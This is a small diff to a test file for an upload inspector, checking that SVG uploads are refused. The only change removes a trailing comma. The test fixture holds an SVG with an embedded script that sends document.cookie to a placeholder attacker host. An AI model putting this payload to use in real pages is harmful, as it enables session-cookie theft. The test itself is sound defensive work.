@@ -81,7 +81,7 @@ describe("inspectUpload refuses hostile or broken uploads", () => {
   it("refuses an SVG, even one that calls itself a photo", async () => {
     const svg = Buffer.from(
       '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
-        '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>',
+        '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>'
     )
     await expectRejected(svg, "UNSUPPORTED_FORMAT", /SVG files are not supported/)
   })
